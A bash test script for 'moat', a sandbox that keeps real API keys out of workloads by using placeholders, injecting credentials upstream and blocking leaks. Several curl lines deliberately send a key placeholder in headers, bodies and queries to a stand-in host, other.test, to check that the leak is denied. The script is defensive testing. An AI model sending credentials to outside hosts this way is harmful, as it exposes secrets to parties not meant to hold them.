#!/bin/bash
# t_secrets.sh - API keys never enter the sandbox: placeholders, header
# injection, leak prevention, responses scrubbed, the trust bundle, and
# the git read-only preset, all through `moat run` (root, private moatd).
#
#   moat namespace: moat run + its private moatd (CA from `moat ca init`,
#   secrets from a 0600 file and from moat run's environment)
#   +------------------------------------------------------------+
#   | sandbox: OPENAI_API_KEY=moat-ph-..., GH_TOKEN=moat-ph-...   |
#   |  SSL_CERT_FILE & co -> the system bundle, over which the    |
#   |  sandbox's bundle (moat's CA + system roots) is mounted     |
#   +------------------------------------------------------------+
#        | intercepted TLS (moatd's leaf), re-originated and verified
#        v
#   net: origin.py 203.0.113.10:443 (origin.test, the key's host; logs
#          headers and bodies; /reflect echoes the Authorization back)
#        origin.py 203.0.113.12:443 (other.test: allowed, not bound;
#          basic.test: a rule that injects Basic credentials)
#        gitsrv.py 203.0.113.12:8443 (git.test: git http-backend)
#
# Checks: the sandbox holds placeholders only (environment, files it can
# read, responses it receives); the origin receives the real key in a
# header, the query and bodies (small, large, with a placeholder across
# buffer boundaries, one that ends mid-placeholder); the rule's header
# injection and its Basic credentials replace what the client sent; the
# key or its placeholder sent
# to other.test is denied (secret-leak) and other.test sees nothing; plain
# HTTP with an injecting rule is refused (needs-tls); the audit log and
# every log name the secret, never its value; curl, python3 (urllib,
# requests if installed) and node (if installed) trust the bundle; an
# upstream with a bad certificate gives 502; an opaque host stays a
# tunnel; git clone works and git push is denied under "read-only".

. "$(dirname "$0")/lib.sh"

mt_init
mt_run_need curl openssl
mt_zone_default
"$MT_PY" - "$MT_T/zone.json" <<'EOF'
import json, sys
z = json.load(open(sys.argv[1]))
z["git.test"] = [{"type": "A", "data": "203.0.113.12", "ttl": 1}]
z["basic.test"] = [{"type": "A", "data": "203.0.113.12", "ttl": 1}]
json.dump(z, open(sys.argv[1], "w"))
EOF
mt_world

OPENAI_REAL=sk-REAL-openai-5f2b9c1d7e3a4b6c8d0e
GH_REAL=ghp_REALgithubtoken0123456789abcdef
"$MOAT" ca init "$MT_T/ca" >/dev/null || mt_error "moat ca init failed"
mkdir -p "$MT_T/keys" && chmod 700 "$MT_T/keys"
printf '%s\n' "$OPENAI_REAL" > "$MT_T/keys/openai.key"
chmod 600 "$MT_T/keys/openai.key"

# other.test and git.test: a certificate of their own, from the same
# kind of self-signed test CA as the origin's.
touch "$MT_T/git.log"
mt_other_origin "DNS:other.test,DNS:git.test,DNS:basic.test"

have_git=""
if command -v git >/dev/null 2>&1 &&
    [ -x "$(git --exec-path)/git-http-backend" ]; then
	mkdir -p "$MT_T/git" &&
	git init -q --bare "$MT_T/git/repo.git" &&
	git -C "$MT_T" init -q work && git -C "$MT_T/work" -c user.name=t \
	    -c user.email=t@t commit -q --allow-empty -m moat-secrets-test &&
	git -C "$MT_T/work" push -q "$MT_T/git/repo.git" HEAD:refs/heads/main &&
	git --git-dir="$MT_T/git/repo.git" symbolic-ref HEAD refs/heads/main &&
	mt_bg gitsrv net "$MT_PY" "$MT_HELPERS/gitsrv.py" \
	    --listen 203.0.113.12:8443 --cert "$MT_T/other.crt" \
	    --key "$MT_T/other.key" --root "$MT_T/git" --log "$MT_T/git.log" \
	    --lifetime "$MT_LIFETIME" --ready-fd 3 && have_git=1
fi
[ -n "$have_git" ] || echo "SKIP: git checks (git not installed)"

cat > "$MT_T/policy.json" <<EOF
{
  "policy": {
    "default": "deny",
    "allow_private": ["203.0.113.0/24", "2001:db8::/32"],
    "rules": [
      {"name": "api", "action": "allow", "hosts": ["origin.test"],
       "ports": [443],
       "inject": [{"placeholders": ["OPENAI_API_KEY"], "body": true},
                  {"header": "X-Gh", "value": "token \${GH}"}],
       "rate": {"requests": 1000, "per_seconds": 60}},
      {"name": "pinned", "action": "allow", "hosts": ["p.wild.test"],
       "ports": [443], "methods": ["GET"], "intercept": false},
      {"name": "api-plain", "action": "allow", "hosts": ["origin.test"],
       "ports": [80], "inject": [{"placeholders": ["OPENAI_API_KEY"]}]},
      {"name": "other", "action": "allow", "hosts": ["other.test"],
       "ports": [443], "intercept": true},
      {"name": "badcert", "action": "allow", "hosts": ["x.origin.test"],
       "ports": [443], "intercept": true},
      {"name": "opaque", "action": "allow", "hosts": ["a.wild.test"],
       "ports": [443]},
      {"name": "git", "action": "allow", "hosts": ["git.test"],
       "ports": [8443], "git": "read-only"},
      {"name": "basic", "action": "allow", "hosts": ["basic.test"],
       "ports": [443], "inject": [{"basic": {"user": "x-access-token",
                                             "password": "\${GH}"}}]}
    ]
  },
  "secrets": {
    "OPENAI_API_KEY": {"file": "$MT_T/keys/openai.key"},
    "GH": {"env": "REAL_GH", "sandbox_env": "GH_TOKEN"}
  },
  "tls": {"ca_cert": "$MT_T/ca/ca.crt", "ca_key": "$MT_T/ca/ca.key",
          "upstream_ca_files": ["$MT_T/origin.crt", "$MT_T/other.crt"]}
}
EOF

# A body with the placeholder at buffer boundaries: written inside the
# sandbox (only it knows the placeholder), checked outside against the
# same layout with the real key.
cat > "$MT_T/bigbody.py" <<'EOF'
import sys
key, n = sys.argv[1], int(sys.argv[2])
out = bytearray()
for cut in (0, 4095, 16383, 65535, 65536 + 7, 262143, 1048575):
    out += b"x" * (cut - len(out)) if cut > len(out) else b""
    out += key.encode()
out += b"y" * (n - len(out))
sys.stdout.buffer.write(bytes(out))
EOF

# --- the workload: KEY=VALUE lines, bodies in $1 -----------------------
cat > "$MT_T/work.sh" <<EOF
#!/bin/bash
d=\$1
echo "ph=\$OPENAI_API_KEY"
echo "ghph=\$GH_TOKEN"
echo "realgh=\${REAL_GH:-unset}"
for v in SSL_CERT_FILE REQUESTS_CA_BUNDLE CURL_CA_BUNDLE NODE_EXTRA_CA_CERTS \
    GIT_SSL_CAINFO PIP_CERT CARGO_HTTP_CAINFO AWS_CA_BUNDLE DENO_CERT; do
	echo "\$v=\${!v:-unset}"
done
echo "bundle_certs=\$(grep -c 'BEGIN CERTIFICATE' "\$SSL_CERT_FILE")"
echo "bundle_keys=\$(grep -c 'PRIVATE KEY' "\$SSL_CERT_FILE")"
echo "bundle_moat=\$(openssl crl2pkcs7 -nocrl -certfile "\$SSL_CERT_FILE" |
    openssl pkcs7 -print_certs -noout | grep -c '^subject=.*moat sandbox CA')"
env > "\$d/env.txt"
echo "keyfile=\$(wc -c < $MT_T/keys/openai.key)"
echo "cakey=\$(wc -c < $MT_T/ca/ca.key)"
A="Authorization: Bearer \$OPENAI_API_KEY"
c() { curl -sS -m 8 "\$@"; }
c -o "\$d/reflect.body" -D "\$d/reflect.hdr" -w 'reflect=%{http_code}\n' \
    -H "\$A" https://origin.test/reflect
c -o /dev/null -w 'query=%{http_code}\n' \
    "https://origin.test/q?key=\$OPENAI_API_KEY&x=1"
c -o /dev/null -w 'post=%{http_code}\n' -d "key=\$OPENAI_API_KEY" \
    https://origin.test/post
/usr/bin/python3 $MT_T/bigbody.py "\$OPENAI_API_KEY" 1500000 > "\$d/big.in"
c -o /dev/null -w 'big=%{http_code}\n' --data-binary @"\$d/big.in" \
    -H 'Content-Type: application/octet-stream' https://origin.test/big
c -o /dev/null -w 'bigchunked=%{http_code}\n' --data-binary @"\$d/big.in" \
    -H 'Transfer-Encoding: chunked' https://origin.test/bigchunked
printf 'tail-%s' "\${OPENAI_API_KEY:0:20}" > "\$d/partial.in"
c -o /dev/null -w 'partial=%{http_code}\n' --data-binary @"\$d/partial.in" \
    https://origin.test/partial
c -o /dev/null -w 'override=%{http_code}\n' -H 'X-Gh: token forged' \
    https://origin.test/override
c -o /dev/null -w 'basic=%{http_code}\n' -u forged:forged \
    https://basic.test/basic
c -o "\$d/leak.body" -D "\$d/leak.hdr" -w 'leak=%{http_code}\n' -H "\$A" \
    https://other.test/leak
c -o /dev/null -D "\$d/leakbody.hdr" -w 'leakbody=%{http_code}\n' \
    -d "token=\$GH_TOKEN" https://other.test/leakbody
c -o /dev/null -D "\$d/leakq.hdr" -w 'leakq=%{http_code}\n' \
    "https://other.test/leakq?k=\$OPENAI_API_KEY"
c -o /dev/null -w 'otherclean=%{http_code}\n' https://other.test/clean
c -o "\$d/plain.body" -D "\$d/plain.hdr" -w 'plain=%{http_code}\n' \
    -H "\$A" http://origin.test/plain
c -o /dev/null -D "\$d/badcert.hdr" -w 'badcert=%{http_code}\n' \
    https://x.origin.test/
c -o /dev/null -w 'opaque=%{http_code}\n' --cacert $MT_T/origin.crt \
    https://a.wild.test/opaque
c -o /dev/null -D "\$d/pinned.hdr" -w 'pinned=%{http_connect}\n' \
    --cacert $MT_T/origin.crt https://p.wild.test/pinned
/usr/bin/python3 - "\$d" <<'PY'
import os, ssl, sys, urllib.request
d = sys.argv[1]
req = urllib.request.Request("https://origin.test/py",
    headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
try:
    with urllib.request.urlopen(req, timeout=8) as r:
        print("urllib=%d" % r.status)
except Exception as e:
    print("urllib=%s" % type(e).__name__)
try:
    import requests
except ImportError:
    print("requests=absent")
else:
    try:
        r = requests.get("https://origin.test/requests", timeout=8,
            headers={"Authorization": "Bearer " +
                os.environ["OPENAI_API_KEY"]})
        print("requests=%d" % r.status_code)
    except Exception as e:
        print("requests=%s" % type(e).__name__)
PY
if command -v node >/dev/null 2>&1; then
	node -e '
const https = require("https");
https.get("https://origin.test/node", {headers: {authorization:
    "Bearer " + process.env.OPENAI_API_KEY}}, r => {
	console.log("node=" + r.statusCode); r.resume(); })
  .on("error", e => console.log("node=" + e.code));' 2>&1 | head -n 1
else
	echo "node=absent"
fi
if [ -n "$have_git" ]; then
	rm -rf "\$d/clone"
	git clone -q https://git.test:8443/repo.git "\$d/clone" 2>"\$d/clone.err" &&
	    echo "clone=ok" || echo "clone=failed"
	git -C "\$d/clone" -c user.name=t -c user.email=t@t commit -q \
	    --allow-empty -m pushed 2>/dev/null
	git -C "\$d/clone" push -q origin HEAD:refs/heads/main \
	    >"\$d/push.out" 2>&1 && echo "push=ok" || echo "push=refused"
fi
exit 0
EOF
chmod 755 "$MT_T/work.sh"

mkdir -p "$MT_T/w"
mt_mark
m_other=$(mt_lines "$MT_T/other.log")
A=$MT_T/audit-secrets.log
REAL_GH=$GH_REAL mt_moat_run root s --policy "$MT_T/policy.json" \
    $MT_RUN_WORLD --name sbx-secrets --audit "$A" -v \
    -- "$MT_T/work.sh" "$MT_T/w"
mt_eq "moat run exits 0" 0 "$MT_RUN_RC" "$MT_T/s.err"
out=$MT_T/s.out
ph=$(mt_out s ph)
ghph=$(mt_out s ghph)

# --- what the sandbox holds ------------------------------------------------
case $ph in
moat-ph-[0-9a-f]*) mt_eq "OPENAI_API_KEY is a placeholder of 40 characters" 40 "${#ph}" ;;
*) mt_fail "OPENAI_API_KEY in the sandbox: '$ph'" "$out" ;;
esac
case $ghph in
moat-ph-*) mt_pass "GH_TOKEN (the secret's sandbox_env) is a placeholder" ;;
*) mt_fail "GH_TOKEN in the sandbox: '$ghph'" "$out" ;;
esac
[ "$ph" != "$ghph" ] && mt_pass "each secret has its own placeholder" ||
    mt_fail "placeholders collide"
mt_eq "the variable moatd reads GH from is not in the sandbox" unset \
    "$(mt_out s realgh)"
for v in SSL_CERT_FILE REQUESTS_CA_BUNDLE CURL_CA_BUNDLE NODE_EXTRA_CA_CERTS \
    GIT_SSL_CAINFO PIP_CERT CARGO_HTTP_CAINFO AWS_CA_BUNDLE DENO_CERT; do
	mt_eq "$v points at the sandbox's bundle" \
	    /etc/ssl/certs/ca-certificates.crt "$(mt_out s "$v")"
done
mt_eq "the bundle holds moat's CA" 1 "$(mt_out s bundle_moat)"
n=$(mt_out s bundle_certs)
sys=$(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt)
mt_eq "...and the system's roots" $((sys + 1)) "$n"
if grep -q 'moat sandbox CA' /etc/ssl/certs/ca-certificates.crt; then
	mt_fail "the host's bundle was changed"
else
	mt_pass "the host's own bundle is untouched (a mount in the sandbox only)"
fi
if grep -rlaF -e "$OPENAI_REAL" -e "$GH_REAL" "$MT_T/w" "$out" >/dev/null; then
	mt_fail "a real key reached the sandbox: $(grep -rlaF -e "$OPENAI_REAL" -e "$GH_REAL" "$MT_T/w" "$out" | tr '\n' ' ')"
else
	mt_pass "no real key in the sandbox's environment, files or responses"
fi
mt_eq "no key in the sandbox's bundle" 0 "$(mt_out s bundle_keys)"
mt_eq "the secret file reads empty in the sandbox (/dev/null over it)" 0 \
    "$(mt_out s keyfile)"
mt_eq "so does moat's CA key" 0 "$(mt_out s cakey)"

# --- what the origin received ------------------------------------------------
O=$MT_T/origin.log
mt_eq "curl: /reflect allowed" 200 "$(mt_out s reflect)" "$out"
mt_eq "the origin received the real key in Authorization" \
    "[[\"Authorization\", \"Bearer $OPENAI_REAL\"]]" \
    "$("$MT_PY" -c '
import json, sys
for l in open(sys.argv[1]):
    r = json.loads(l)
    if r.get("path") == "/reflect":
        print(json.dumps([h for h in r["headers"] if h[0].lower() == "authorization"]))
' "$O" | tail -n 1)"
mt_eq "...and X-Gh from the rule's header template" \
    "token $GH_REAL" "$("$MT_PY" -c '
import json, sys
for l in open(sys.argv[1]):
    r = json.loads(l)
    if r.get("path") == "/override":
        print(",".join(v for n, v in r["headers"] if n.lower() == "x-gh"))
' "$O" | tail -n 1)"
mt_eq "the client's own X-Gh was replaced, not added" 200 "$(mt_out s override)"
mt_eq "basic.test: allowed" 200 "$(mt_out s basic)"
mt_eq "...the origin received the rule's Basic credentials, and only them" \
    "Basic $(printf 'x-access-token:%s' "$GH_REAL" | base64 -w0)" \
    "$("$MT_PY" -c '
import json, sys
for l in open(sys.argv[1]):
    r = json.loads(l)
    if r.get("path") == "/basic":
        print(",".join(v for n, v in r["headers"] if n.lower() == "authorization"))
' "$MT_T/other.log" | tail -n 1)"
mt_eq "the response's echo came back as the placeholder (body)" \
    "auth=Bearer $ph" "$(head -n 1 "$MT_T/w/reflect.body")"
mt_eq "...and in the echoed header" "X-Reflect: Bearer $ph" \
    "$(grep -i '^X-Reflect:' "$MT_T/w/reflect.hdr" | tr -d '\r')"
mt_eq "the query: the real key at the origin" "key=$OPENAI_REAL&x=1" \
    "$(mt_jl "$O" get query path=/q)"
mt_eq "a form body: the real key at the origin" "key=$OPENAI_REAL" \
    "$(mt_jl "$O" get body path=/post)"
want=$("$MT_PY" "$MT_T/bigbody.py" "$ph" 1500000 |
    "$MT_PY" -c 'import sys; sys.stdout.buffer.write(sys.stdin.buffer.read().replace(sys.argv[1].encode(), sys.argv[2].encode()))' "$ph" "$OPENAI_REAL" |
    sha256sum | cut -d' ' -f1)
mt_eq "a 1.5 MB body, placeholder across buffer boundaries: exact bytes with the key" \
    "$want" "$(mt_jl "$O" get body_sha256 path=/big)"
mt_eq "...the same body chunked" "$want" \
    "$(mt_jl "$O" get body_sha256 path=/bigchunked)"
mt_eq "a body that ends mid-placeholder passes as it is" \
    "tail-${ph:0:20}" "$(mt_jl "$O" get body path=/partial)"
mt_eq "python3 urllib trusts the bundle and uses the placeholder" 200 \
    "$(mt_out s urllib)" "$out"
case $(mt_out s requests) in
absent) echo "SKIP: python3-requests not installed" ;;
*) mt_eq "python3 requests (REQUESTS_CA_BUNDLE)" 200 "$(mt_out s requests)" "$out" ;;
esac
case $(mt_out s node) in
absent) echo "SKIP: node not installed" ;;
*) mt_eq "node (NODE_EXTRA_CA_CERTS, transparent path)" 200 "$(mt_out s node)" "$out" ;;
esac
for p in /py /requests /node; do
	got=$(mt_jl "$O" get headers path=$p)
	[ -z "$got" ] && continue
	case $got in
	*"Bearer $OPENAI_REAL"*) mt_pass "$p: the origin got the real key" ;;
	*) mt_fail "$p: the origin got '$got'" ;;
	esac
done

# --- leaks ---------------------------------------------------------------------
mt_eq "the placeholder in a header to other.test: 403" 403 "$(mt_out s leak)"
mt_eq "...reason secret-leak" "X-Moat-Reason: secret-leak" \
    "$(grep -i '^X-Moat-Reason:' "$MT_T/w/leak.hdr" | tr -d '\r')"
grep -q "OPENAI_API_KEY" "$MT_T/w/leak.body" &&
    mt_pass "...the denial names the secret" ||
    mt_fail "the denial body does not name the secret" "$MT_T/w/leak.body"
mt_eq "another secret's placeholder in a body to other.test: 403" 403 \
    "$(mt_out s leakbody)"
mt_eq "the placeholder in the query to other.test: 403" 403 "$(mt_out s leakq)"
mt_eq "a clean request to other.test passes (intercepted)" 200 \
    "$(mt_out s otherclean)"
mt_eq "other.test received only the clean request" "/clean" \
    "$(tail -n +$((m_other + 1)) "$MT_T/other.log" | mt_jl /dev/stdin dump event=request |
      "$MT_PY" -c 'import json,sys; print(" ".join(r["path"] for r in map(json.loads, sys.stdin) if r["host"] == "other.test"))')"
mt_eq "plain HTTP to an injecting rule: 403" 403 "$(mt_out s plain)"
mt_eq "...reason needs-tls" "X-Moat-Reason: needs-tls" \
    "$(grep -i '^X-Moat-Reason:' "$MT_T/w/plain.hdr" | tr -d '\r')"
mt_eq "the origin never saw the plain request" 0 "$(mt_jl "$O" count path=/plain)"
mt_eq "...nor a connection on port 80: refused before dialling" 0 \
    "$(mt_jl "$O" count event=accept 'local~:80$')"
# The body is for an agent: it says to use https:// (which works), not that
# every other spelling is denied, and quotes the config as it is written.
mt_eq "...the body says to request https:// instead" "1 0" \
    "$(grep -c 'with https:// instead of http://' "$MT_T/w/plain.body") $(grep -c 'other spellings' "$MT_T/w/plain.body")" \
    "$MT_T/w/plain.body"
mt_eq "...and shows quotes as quotes, not \\x22" "1 0" \
    "$(grep -cF 'set "plain_http": true' "$MT_T/w/plain.body") $(grep -cF '\x22' "$MT_T/w/plain.body")" \
    "$MT_T/w/plain.body"
mt_eq "an upstream with a bad certificate: 502" 502 "$(mt_out s badcert)"
mt_eq "...reason tls" "X-Moat-Reason: tls" \
    "$(grep -i '^X-Moat-Reason:' "$MT_T/w/badcert.hdr" | tr -d '\r')"
mt_eq "an opaque host stays a tunnel (origin's own certificate)" 200 \
    "$(mt_out s opaque)"
mt_eq "a rule with methods and \"intercept\": false: CONNECT refused" 403 \
    "$(mt_out s pinned)"
mt_log_eq "...reason needs-inspection" needs-inspection \
    "$A" get reason host=p.wild.test

# --- the audit log: names, never values ---------------------------------------
mt_log_eq "audit: secret-leak names the secret" 1 \
    "$A" count reason=secret-leak host=other.test path=/leak 'detail~OPENAI_API_KEY'
mt_log_eq "audit: the leak in a body names GH" 1 \
    "$A" count reason=secret-leak host=other.test 'detail~GH'
mt_eq "audit: injected names on an allowed request" '["OPENAI_API_KEY", "GH"]' \
    "$(mt_jl "$A" get injected path=/reflect)"
mt_log_eq "audit: the tunnel to a.wild.test had no request line" 0 \
    "$A" count event=request host=a.wild.test
if grep -rlaF -e "$OPENAI_REAL" -e "$GH_REAL" "$A" "$MT_T/s.err" >/dev/null; then
	mt_fail "a real key is in the audit log or moat's messages"
else
	mt_pass "no real key in the audit log or moat run's / moatd's messages"
fi

# --- git read-only -------------------------------------------------------------
if [ -n "$have_git" ]; then
	mt_eq "git clone through the read-only preset" ok "$(mt_out s clone)" \
	    "$MT_T/w/clone.err"
	mt_eq "git push is refused" refused "$(mt_out s push)" "$MT_T/w/push.out"
	mt_eq "...the origin never saw git-receive-pack" 0 \
	    "$(grep -c 'git-receive-pack' "$MT_T/git.log")"
	mt_log_eq "audit: the push denied by the preset" 1 \
	    "$A" count verdict=deny host=git.test 'path~receive-pack'
fi

# --- a running moatd (--moatd): SIGHUP re-reads a rotated key; the sandbox's
#     placeholder stays the same -------------------------------------------------
conf=$MT_T/moatd.json
mt_conf "$conf"
mt_conf_set "$conf" admin "{\"address\": \"unix:$MT_T/admin.sock\"}"
mt_conf_set "$conf" tls "{\"ca_cert\": \"$MT_T/ca/ca.crt\", \"ca_key\": \"$MT_T/ca/ca.key\", \"upstream_ca_files\": [\"$MT_T/origin.crt\", \"$MT_T/other.crt\"]}"
MT_MOATD_ENV="REAL_GH=$GH_REAL" mt_moatd_start "$conf"
cat > "$MT_T/rot.sh" <<EOF
#!/bin/bash
d=\$1
curl -sS -m 8 -o /dev/null -w 'r1=%{http_code}\n' \\
    -H "Authorization: Bearer \$OPENAI_API_KEY" https://origin.test/rot1
echo "ph=\$OPENAI_API_KEY"
touch "\$d/rot.phase1"
for i in \$(seq 100); do [ -e "\$d/rot.go" ] && break; sleep 0.1; done
curl -sS -m 8 -o /dev/null -w 'r2=%{http_code}\n' \\
    -H "Authorization: Bearer \$OPENAI_API_KEY" https://origin.test/rot2
EOF
chmod 755 "$MT_T/rot.sh"
rm -f "$MT_T/w/rot.phase1" "$MT_T/w/rot.go"
timeout -k 2 60 ip netns exec "$(mt_ns moat)" env MOAT_NETNS="$MOAT_NETNS" \
    "$MOAT" run --no-tty --moatd "unix:$MT_T/admin.sock" \
    --policy "$MT_T/policy.json" --allow-private 203.0.113.0/24 \
    --name sbx-rot -- "$MT_T/rot.sh" "$MT_T/w" </dev/null \
    >"$MT_T/rot.out" 2>"$MT_T/rot.err" &
rot=$!
# rot_phase1: rot.sh is through its first phase, or gone.
rot_phase1() { [ -e "$MT_T/w/rot.phase1" ] || mt_gone "$rot"; }
mt_wait_for 15 rot_phase1
OPENAI_NEW=sk-ROTATED-openai-99887766554433221100
printf '%s\n' "$OPENAI_NEW" > "$MT_T/keys/openai.key.new"
chmod 600 "$MT_T/keys/openai.key.new"
mv "$MT_T/keys/openai.key.new" "$MT_T/keys/openai.key"
kill -HUP "$MT_MOATD_PID"
mt_wait_log "$MT_T/moatd.err" "reload done" 100 ||
    mt_fail "moatd did not finish its reload" "$MT_T/moatd.err"
touch "$MT_T/w/rot.go"
wait "$rot"
mt_eq "--moatd: moat run exits 0" 0 "$?" "$MT_T/rot.err"
# auth_of PATH: the Authorization the origin received for PATH.
auth_of()
{
	"$MT_PY" -c '
import json, sys
for l in open(sys.argv[1]):
    r = json.loads(l)
    if r.get("path") == sys.argv[2]:
        print(",".join(v for n, v in r["headers"] if n.lower() == "authorization"))
' "$O" "$1" | tail -n 1
}
mt_eq "--moatd: first request" 200 "$(mt_out rot r1)" "$MT_T/rot.out"
mt_eq "--moatd: the origin got the key of the time" "Bearer $OPENAI_REAL" \
    "$(auth_of /rot1)"
mt_eq "after SIGHUP: the same placeholder now brings the rotated key" \
    "Bearer $OPENAI_NEW" "$(auth_of /rot2)"
mt_eq "--moatd: second request" 200 "$(mt_out rot r2)" "$MT_T/rot.out"
case $(mt_out rot ph) in
moat-ph-*) mt_pass "--moatd: the sandbox got a placeholder from the running moatd" ;;
*) mt_fail "--moatd: OPENAI_API_KEY '$(mt_out rot ph)'" "$MT_T/rot.out" ;;
esac
mt_moatd_stop
printf '%s\n' "$OPENAI_REAL" > "$MT_T/keys/openai.key"
if grep -laF -e "$OPENAI_REAL" -e "$OPENAI_NEW" -e "$GH_REAL" \
    "$MT_T/moatd.err" "$MT_T/audit.log" "$MT_T/rot.err" >/dev/null; then
	mt_fail "a key is in the running moatd's log or audit"
else
	mt_pass "the running moatd's log and audit hold no key"
fi

# --- a broken secret file: refused with a clear error, nothing started ------------
chmod 640 "$MT_T/keys/openai.key"
REAL_GH=$GH_REAL mt_moat_run root bad --policy "$MT_T/policy.json" \
    $MT_RUN_WORLD --name sbx-bad -- /bin/echo workload-ran
if [ "$MT_RUN_RC" != 0 ] && grep -q "openai.key" "$MT_T/bad.err" &&
    grep -qi "readable" "$MT_T/bad.err" && ! grep -q workload-ran "$MT_T/bad.out"; then
	mt_pass "a group-readable secret file: moat run refuses ($(grep -m1 openai.key "$MT_T/bad.err"))"
else
	mt_fail "a group-readable secret file: exit $MT_RUN_RC" "$MT_T/bad.err"
fi
chmod 600 "$MT_T/keys/openai.key"
# A second name for a secret file: moat run hides it by its path only.
ln "$MT_T/keys/openai.key" "$MT_T/openai-link.key"
REAL_GH=$GH_REAL mt_moat_run root linked --policy "$MT_T/policy.json" \
    $MT_RUN_WORLD --name sbx-linked -- /bin/echo workload-ran
if [ "$MT_RUN_RC" != 0 ] && grep -q "openai.key: the file has 2 hard links" \
    "$MT_T/linked.err" && ! grep -q workload-ran "$MT_T/linked.out"; then
	mt_pass "a hard-linked secret file: moat run refuses"
else
	mt_fail "a hard-linked secret file: exit $MT_RUN_RC" "$MT_T/linked.err"
fi
rm -f "$MT_T/openai-link.key"
REAL_GH="" mt_moat_run root noenv --policy "$MT_T/policy.json" \
    $MT_RUN_WORLD --name sbx-noenv -- /bin/echo workload-ran
if [ "$MT_RUN_RC" != 0 ] && grep -q "REAL_GH" "$MT_T/noenv.err"; then
	mt_pass "an empty secret variable: refused ($(grep -m1 REAL_GH "$MT_T/noenv.err"))"
else
	mt_fail "an empty secret variable: exit $MT_RUN_RC" "$MT_T/noenv.err"
fi

mt_finish
